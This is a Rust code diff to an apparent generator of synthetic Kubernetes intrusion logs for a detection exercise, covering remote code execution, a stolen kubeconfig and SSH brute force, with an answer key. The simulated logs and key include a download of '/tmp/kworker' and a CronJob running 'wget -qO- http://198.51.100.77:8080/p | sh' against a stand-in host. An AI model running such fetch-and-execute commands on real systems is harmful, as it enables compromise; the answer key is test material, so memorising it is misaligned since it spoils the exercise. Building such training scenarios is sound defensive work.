@@ -6,7 +6,7 @@ use super::cluster::{
     bound_token_extra, container_log_path, sa_groups, sa_name, APISERVER_IP, CART, DEVS, FRONTEND,
     KCM_UA, KUBECTL_UA, KUBELET_UA, NODES, NODE_GROUPS, PODS, SCHED_UA,
 };
-use super::fmt::{at, SEC};
+use super::fmt::{date, SEC};
 use super::records::{access_line, Audit, Falco, Ident, Obj};
 use super::rng::name_uid;
 use super::script::{secs, Script};
@@ -445,13 +445,14 @@ fn rce_to_node(s: &mut Script) {
     );
     s.cri(&fe_log, t, "stdout", &line);
     let t = s.t(2, 10, 15);
+    let day = date(t);
     for (i, msg) in [
-        "export: command output: --2026-03-14 02:10:15--  http://203.0.113.45/kworker",
-        "export: command output: Connecting to 203.0.113.45:80... connected.",
-        "export: command output: HTTP request sent, awaiting response... 200 OK",
-        "export: command output: Length: 2843104 (2.7M) [application/octet-stream]",
-        "export: command output: Saving to: '/tmp/kworker'",
-        "export: command output: 2026-03-14 02:10:16 (4.1 MB/s) - '/tmp/kworker' saved [2843104/2843104]",
+        format!("export: command output: --{day} 02:10:15--  http://203.0.113.45/kworker"),
+        "export: command output: Connecting to 203.0.113.45:80... connected.".into(),
+        "export: command output: HTTP request sent, awaiting response... 200 OK".into(),
+        "export: command output: Length: 2843104 (2.7M) [application/octet-stream]".into(),
+        "export: command output: Saving to: '/tmp/kworker'".into(),
+        format!("export: command output: {day} 02:10:16 (4.1 MB/s) - '/tmp/kworker' saved [2843104/2843104]"),
     ]
     .iter()
     .enumerate()
@@ -746,7 +747,8 @@ fn rce_to_node(s: &mut Script) {
         &f,
     );
     let ts = s.t(2, 17, 16);
-    miner_output(s, &miner_log, ts, at(2, 39, 30));
+    let end = s.at(2, 39, 30);
+    miner_output(s, &miner_log, ts, end);
     let t = s.t(2, 17, 17);
     let f: Vec<(&str, String)> = vec![
         ("evt.type", "connect".into()),
@@ -1262,12 +1264,13 @@ fn stolen_kubeconfig(s: &mut Script) {
     let node = 1;
     let mut deleted = Vec::new();
     for m in [20u32, 30] {
-        let sched = at(2, m, 0) / SEC / 60;
+        let fired = s.at(2, m, 0);
+        let sched = fired / SEC / 60;
         let job = format!("node-cleanup-{sched}");
         let pod = format!("{job}-{}", s.rng.k8s_suffix(5));
         ctl_create(
             s,
-            at(2, m, 0) + 3_000_000,
+            fired + 3_000_000,
             "cronjob-controller",
             "batch",
             "jobs",
@@ -1280,7 +1283,7 @@ fn stolen_kubeconfig(s: &mut Script) {
         );
         ctl_create(
             s,
-            at(2, m, 0) + 41_000_000,
+            fired + 41_000_000,
             "job-controller",
             "",
             "pods",
@@ -1291,10 +1294,10 @@ fn stolen_kubeconfig(s: &mut Script) {
             ),
         );
         let cid = s.rng.hex(64);
-        let t = at(2, m, 1) + s.rng.below(300_000_000) as i64;
+        let t = s.at(2, m, 1) + s.rng.below(300_000_000) as i64;
         start_pod(s, node, "kube-system", &pod, &cid, t, "api");
         let path = container_log_path(&pod, "kube-system", "cleanup", &cid);
-        let t = at(2, m, 4) + s.rng.below(200_000_000) as i64;
+        let t = s.at(2, m, 4) + s.rng.below(200_000_000) as i64;
         for (i, line) in [
             "Connecting to 198.51.100.77:8080 (198.51.100.77:8080)",
             "writing to stdout",
@@ -1385,7 +1388,8 @@ fn ctl_create(
 // ---------------------------------------------------------------- 4 ----
 
 const SSH_IP: &str = "203.0.113.99";
-const VICTIM: usize = 3;
+/// The worker the brute force lands on (its logs come as a support bundle).
+pub const VICTIM: usize = 3;
 const STATIC_POD: &str = "kube-metrics-prod-worker-03";
 
 fn ssh_to_kubelet(s: &mut Script) {
@@ -1398,7 +1402,7 @@ fn ssh_to_kubelet(s: &mut Script) {
     let mut port = 0u64;
     for i in 0..48u32 {
         let sec = 3 + i * 275 / 47;
-        let t = at(2, 5, 0) + secs(sec as i64) + s.rng.below(400_000_000) as i64;
+        let t = s.at(2, 5, 0) + secs(sec as i64) + s.rng.below(400_000_000) as i64;
         if i % 3 == 0 {
             pid = s.rng.range(30_000, 39_999);
             port = s.rng.range(40_000, 60_999);
@@ -1815,9 +1819,11 @@ fn ssh_to_kubelet(s: &mut Script) {
 // ---------------------------------------------------------- answers ----
 
 pub fn answer_key(name: &str) -> Option<AnswerKey> {
+    let date = super::scenarios().iter().find(|s| s.name == name)?.date();
     let key = match name {
         "anonymous-to-admin" => AnswerKey {
             scenario: "anonymous-to-admin",
+            date,
             expected_rules: vec![
                 "forbidden-requests",
                 "clusterrolebinding-cluster-admin",
@@ -1840,6 +1846,7 @@ pub fn answer_key(name: &str) -> Option<AnswerKey> {
         },
         "rce-to-node" => AnswerKey {
             scenario: "rce-to-node",
+            date,
             expected_rules: vec![
                 "web-command-injection",
                 "download-and-execute",
@@ -1870,6 +1877,7 @@ pub fn answer_key(name: &str) -> Option<AnswerKey> {
         },
         "stolen-kubeconfig" => AnswerKey {
             scenario: "stolen-kubeconfig",
+            date,
             expected_rules: vec![
                 "user-from-new-address",
                 "secrets-list-namespace",
@@ -1884,12 +1892,13 @@ pub fn answer_key(name: &str) -> Option<AnswerKey> {
                 ("Whose credentials were abused, and what gives it away?", "carol@corp.example: from 198.51.100.77 with kubectl/v1.27.4 (darwin/arm64) from 02:12:44, while carol works from 10.20.4.31 with kubectl/v1.29.2 (linux/amd64)"),
                 ("Which audit file holds the first request from the new address?", "The rotated, gzipped kube-apiserver/audit-*.log.gz, not audit.log"),
                 ("What persistence was created?", "CronJob kube-system/node-cleanup at 02:16:03: every 10 minutes, hostNetwork, as the clusterrole-aggregation-controller service account, running wget -qO- http://198.51.100.77:8080/p | sh"),
-                ("When did it run, and where?", "02:20:00 and 02:30:00, jobs node-cleanup-29557580 and node-cleanup-29557590 on prod-worker-01"),
+                ("When did it run, and where?", "02:20:00 and 02:30:00, jobs node-cleanup-29577740 and node-cleanup-29577750 on prod-worker-01"),
                 ("How were tracks covered?", "6 events in kube-system deleted one by one from 02:32:15, then a deletecollection of all kube-system events at 02:32:40"),
             ],
         },
         "ssh-to-kubelet" => AnswerKey {
             scenario: "ssh-to-kubelet",
+            date,
             expected_rules: vec![
                 "ssh-bruteforce",
                 "ssh-success-after-failures",
